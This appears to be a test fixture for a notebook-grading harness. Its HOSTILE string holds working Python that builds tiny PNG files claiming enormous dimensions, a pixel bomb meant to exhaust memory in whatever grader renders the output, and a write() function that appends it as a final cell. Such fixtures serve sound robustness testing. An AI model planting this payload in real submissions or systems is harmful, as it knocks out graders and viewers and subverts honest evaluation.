"""A PNG file of a few kilobytes that says it holds nine hundred million pixels. The one who looks whether anything is
on it is the grader.
"""

HOSTILE = r"""
import struct
import zlib
from IPython.display import display

def chunk(kind, content):
    body = kind + content
    return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))

def png(width, height, rows):
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(rows * (1 + 3 * width)))
    return bytes([137]) + b"PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")

import base64
for picture in (png(30_000, 30_000, 20), png(6_000, 6_000, 10), png(2**31 - 1, 2**31 - 1, 0)):
    display({"image/png": base64.b64encode(picture).decode()}, raw=True)
"""


def write(draft):
    draft.last(HOSTILE)
    draft.die()
